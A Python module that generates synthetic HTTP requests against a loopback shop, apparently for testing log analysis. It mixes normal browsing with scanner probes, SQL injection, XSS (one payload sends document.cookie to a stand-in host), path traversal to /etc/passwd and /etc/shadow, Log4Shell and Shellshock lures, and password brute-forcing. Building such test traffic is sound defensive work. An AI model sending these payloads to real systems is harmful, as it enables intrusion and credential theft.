"""Who visits the recorded shop, and what they send: requests as bytes.

Every function yields `Request` values; `at` is the second of the recording in which
the request is due. Attack texts are the public, decades-old kind that every scanner
sends; nothing here reaches further than the loopback interface.
"""

from __future__ import annotations

import base64
from dataclasses import dataclass
from typing import TYPE_CHECKING
from urllib.parse import quote

if TYPE_CHECKING:
    import random
    from collections.abc import Iterator

BROWSERS = (
    "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
    (
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 "
        "(KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
    ),
    (
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 "
        "(KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1"
    ),
    'Mozilla/5.0 (Android 14; Mobile; "shop \\ app") Gecko/128.0 Firefox/128.0',
)
CRAWLER = "Mozilla/5.0 (compatible; examplebot/1.4; +https://bot.example/about)"
WORDS = (
    "admin",
    "backup",
    "db",
    "old",
    "test",
    "dev",
    "staging",
    "config",
    "phpmyadmin",
    "server-status",
    "console",
    "cgi-bin",
    "uploads",
    "private",
    "tmp",
    "logs",
    "shell",
    "dump",
    "wp-admin",
    "wp-content",
    "vendor",
    "node",
    "api",
    "secret",
    "keys",
    "id_rsa",
    "passwd",
    "manager",
    "jenkins",
    "solr",
    "actuator",
    "env",
    "debug",
    "trace",
    "hidden",
)
SUFFIXES = ("", "/", ".php", ".bak", ".zip", ".tar.gz", ".old", ".sql", ".txt", "~")
SEARCHES = ("falco", "garden chair", "blue kettle", "café", "naïve?", "50% off", "a&b")
PRODUCTS = 40


@dataclass(frozen=True)
class Request:
    """One connection: what is sent, from which loopback address, and when."""

    at: float
    data: bytes
    source: str = "127.0.0.1"
    hang_up: bool = False  # close before the answer is complete


def http(
    target: str | bytes,
    *,
    client: str = "",
    agent: str | bytes = "",
    referer: str = "",
    method: str = "GET",
    headers: tuple[str, ...] = (),
    body: bytes = b"",
) -> bytes:
    """Return the bytes of an HTTP/1.1 request; `client` goes to X-Forwarded-For."""
    raw = target if isinstance(target, bytes) else target.encode()
    lines = [b"%s %s HTTP/1.1" % (method.encode(), raw), b"Host: shop.example"]
    if client:
        lines.append(b"X-Forwarded-For: " + client.encode())
    if agent:
        text = agent if isinstance(agent, bytes) else agent.encode()
        lines.append(b"User-Agent: " + text)
    if referer:
        lines.append(b"Referer: " + referer.encode())
    lines += [line.encode() for line in headers]
    if body or method in {"POST", "PUT"}:
        lines.append(b"Content-Length: %d" % len(body))
    lines.append(b"Connection: close")
    return b"\r\n".join(lines) + b"\r\n\r\n" + body


def search(rng: random.Random) -> str:
    """Return the target of a search for something ordinary."""
    words = quote(rng.choice(SEARCHES))
    return f"/search?q={words}&page={rng.randrange(1, 9)}"


def visitors(rng: random.Random, seconds: float, count: int) -> Iterator[Request]:
    """Yield people who look at pages, search, order, and come back."""
    made = 0
    while made < count:
        number = rng.randrange(1, 250)
        client = rng.choice(
            (f"198.51.100.{number}", f"203.0.113.{number}", f"2001:db8::{number:x}")
        )
        agent = rng.choice(BROWSERS)
        at = rng.uniform(0, seconds)
        page = "/"
        for step in range(rng.randrange(2, 9)):
            referer = "https://shop.example" + page if step else ""
            page = rng.choice(
                (
                    "/",
                    "/products/",
                    f"/products/{rng.randrange(PRODUCTS)}.html",
                    search(rng),
                    f"/api/items?id={rng.randrange(900)}&sort=price&tag=a&tag=b",
                    f"/api/items?id={rng.randrange(900)}#reviews",
                    "/old-shop",
                    "/blog/überraschung.html",
                )
            )
            what = {"client": client, "agent": agent, "referer": referer}
            target = quote(page, safe="/?&=%#+")
            yield Request(at, http(target, **what))
            if page.endswith((".html", "/")):
                for asset in ("/style.css", "/shop.js", "/logo.svg")[: 3 - step % 3]:
                    again = ("If-Modified-Since: Fri, 01 Jan 2038 00:00:00 GMT",)
                    head = again if step else ()
                    yield Request(at + 0.1, http(asset, headers=head, **what))
                    made += 1
            made += 1
            at = min(seconds, at + rng.expovariate(1 / 6))
        if rng.random() < 0.2:
            body = b'{"item": %d}' % rng.randrange(900)
            order = http(
                "/api/orders", client=client, agent=agent, method="POST", body=body
            )
            yield Request(at, order)
            made += 1


def machines(rng: random.Random, seconds: float) -> Iterator[Request]:
    """Yield what is not human but harmless: probes, crawlers, scripts."""
    for second in range(int(seconds)):
        yield Request(second, http("/healthz", agent="kube-probe/1.30"), "127.0.0.1")
        if second % 5 == 0:
            yield Request(second, http("/healthz", method="HEAD", agent="up/2"), "::1")
    for number in range(PRODUCTS):
        at = rng.uniform(0, seconds)
        for target in ("/robots.txt", f"/products/{number}.html"):
            yield Request(at, http(target, client="192.0.2.77", agent=CRAWLER))
    for _ in range(120):
        at = rng.uniform(0, seconds)
        source = f"127.0.0.{rng.randrange(2, 9)}"
        method = rng.choice(("GET", "PUT", "DELETE", "PATCH", "OPTIONS"))
        target = f"/api/items/{rng.randrange(900)}"
        yield Request(at, http(target, agent="curl/8.8.0", method=method), source)
    for _ in range(25):
        at = rng.uniform(0, seconds)
        load = http("/downloads/catalogue.txt", client="192.0.2.14", agent="Wget/1.24")
        yield Request(at, load, hang_up=True)
        part = http("/shop.js", headers=("Range: bytes=10-99",), agent="Wget/1.24")
        yield Request(at, part, "127.0.0.4")
        yield Request(
            at, http("/api/reports?year=2026", agent="curl/8.8.0"), "127.0.0.5"
        )


def scanners(rng: random.Random, seconds: float, count: int) -> Iterator[Request]:
    """Yield bursts of guesses at files that are not there, from a few addresses."""
    tools = (
        ("203.0.113.66", "Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:{:06d})"),
        ("198.51.100.23", "gobuster/3.6"),
        ("2001:db8:bad::7", "Mozilla/5.0 zgrab/0.x"),
        (
            "192.0.2.200",
            "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
        ),
    )
    sure = ("/.env", "/.git/config", "/wp-login.php", "/xmlrpc.php", "/internal/keys")
    for turn, (client, agent) in enumerate(tools):
        start = seconds * (turn + 1) / (len(tools) + 1)
        for number in range(count // len(tools)):
            guess = f"/{rng.choice(WORDS)}/{rng.choice(WORDS)}{rng.choice(SUFFIXES)}"
            target = rng.choice(sure) if number % 9 == 0 else guess
            method = "HEAD" if turn == 1 else "GET"
            text = agent.format(number)
            data = http(target, client=client, agent=text, method=method)
            yield Request(start + number / 60, data)


def injections(rng: random.Random, seconds: float) -> Iterator[Request]:
    """Yield SQL injection, cross-site scripting, traversal and template texts."""
    sql = (
        "1' AND 1=1-- -",
        "1' UNION ALL SELECT NULL,NULL,CONCAT(user,0x3a,password) FROM users-- -",
        "1) AND (SELECT 4711 FROM (SELECT(SLEEP(5)))abc)-- x",
        "-1' OR 'x'='x",
        "1;WAITFOR DELAY '0:0:5'--",
    )
    scripts = (
        "<script>alert(document.cookie)</script>",
        '"><img src=x onerror=alert(1)>',
        "javascript:alert`1`",
        "<svg/onload=fetch('//203.0.113.9/'+document.cookie)>",
    )
    climbs = (
        b"/../../../../etc/passwd",
        b"/static/..%2f..%2f..%2fetc%2fpasswd",
        b"/%2e%2e/%2e%2e/%2e%2e/etc/shadow",
        b"/cgi-bin/.%%32%65/.%%32%65/bin/sh",
        b"/download?file=../../../../etc/passwd%00.png",
        b"/files/..%c0%af..%c0%afwindows/win.ini",
        b"/index.php?page=php://filter/convert.base64-encode/resource=config",
    )
    client, agent = "198.51.100.99", "sqlmap/1.8.6#stable (https://sqlmap.org)"
    start = seconds * 0.35
    for number in range(900):
        text = rng.choice(sql) + (f" {rng.randrange(10**4)}" if number % 3 else "")
        target = f"/products/?id={quote(text)}&cat={rng.randrange(20)}"
        data = http(target, client=client, agent=agent)
        yield Request(start + number / 40, data)
    for number in range(260):
        at = rng.uniform(0, seconds)
        who = {"client": f"203.0.113.{180 + number % 5}", "agent": BROWSERS[number % 2]}
        text = rng.choice(scripts)
        written = text.replace(" ", "+") if number % 4 == 0 else quote(text)
        yield Request(at, http(f"/search?q={written}&page=1", **who))
        yield Request(at, http(rng.choice(climbs), **who))
    lures = ("${jndi:ldap://203.0.113.66:1389/a}", "() { :; }; /bin/ping 203.0.113.5")
    for number in range(80):
        at = rng.uniform(0, seconds)
        lure = lures[number % 2]
        yield Request(at, http("/", agent=lure, referer=lure, client="203.0.113.5"))


def brute_force(rng: random.Random, seconds: float) -> Iterator[Request]:
    """Yield guesses at passwords: a login form, and basic authentication."""
    for number in range(700):
        at = seconds * 0.6 + number / 9
        body = f"user=root&password={rng.randrange(10**6)}".encode()
        who = {"client": "192.0.2.44", "agent": "python-requests/2.32.3"}
        yield Request(at, http("/login", method="POST", body=body, **who))
    for number in range(500):
        user = ("admin", "root", "shop", "müller")[number % 4]
        word = "correct horse" if number == 470 else str(rng.randrange(10**6))
        name = "admin" if number == 470 else user
        token = base64.b64encode(f"{name}:{word}".encode()).decode()
        header = (f"Authorization: Basic {token}",)
        data = http("/admin/", client="2001:db8:bad::44", agent="Hydra", headers=header)
        yield Request(seconds * 0.2 + number / 12, data)


def oddities(rng: random.Random, seconds: float) -> Iterator[Request]:
    """Yield what parsers trip over: bad bytes, huge lines, other protocols."""
    tls = bytes.fromhex("1603010200010001fc0303") + bytes(range(256))
    raw: tuple[bytes, ...] = (
        tls,
        b"\x03\x00\x00\x2f\x2a\xe0\x00\x00\x00\x00\x00Cookie: mstshash=hello\r\n\r\n",
        b"SSH-2.0-Go\r\n\r\n",
        b"\r\n\r\n",
        b"GET /\r\n\r\n",
        b"GET http://shop.example/ HTTP/1.0\r\n\r\n",
        b"OPTIONS * HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n\r\n",
        b"CONNECT 203.0.113.80:443 HTTP/1.1\r\nHost: shop.example\r\n\r\n",
        b"TRACE / HTTP/1.1\r\nHost: shop.example\r\n\r\n",
        b"get / http/1.1\r\nhost: shop.example\r\n\r\n",
        b"PROPFIND /dav HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n\r\n",
        http(b"/caf\xe9/\xff\xfe?q=\xc3\x28", agent=b"\xf0\x28\x8c\x28 agent"),
        http("/search?q=%ff%fe%00%01&q=%E4%B8%AD%e6%96%87", agent="\u65e5\u672c"),
        http("/search?q=a%20b+c&empty=&flag&%6Eame=x%3Dy&=novalue&&q=second"),
        http("/search?q=%zz%4&q=%", agent='quote " and \\ backslash'),
        http("//double//slash///x?a?b?c=d"),
        http("/", client="203.0.113.7, 192.0.2.1", agent="two hops"),
        http("/", client="not-an-address", agent="-"),
    )
    for number in range(15 * len(raw)):
        at = rng.uniform(0, seconds)
        yield Request(at, raw[number % len(raw)], f"127.0.0.{10 + number % 3}")
    for size in (1000, 2000, 4000, 6000, 8100, 9000) * 6:
        at = rng.uniform(0, seconds)
        target = "/search?q=" + "A" * size + "&end=here"
        yield Request(at, http(target, client="203.0.113.250", agent=CRAWLER))


def everything(rng: random.Random, seconds: float, ordinary: int) -> list[Request]:
    """Return all requests of a recording in the order in which they are due."""
    due = [
        *visitors(rng, seconds, ordinary),
        *machines(rng, seconds),
        *scanners(rng, seconds, 3600),
        *injections(rng, seconds),
        *brute_force(rng, seconds),
        *oddities(rng, seconds),
    ]
    return sorted(due, key=lambda request: request.at)
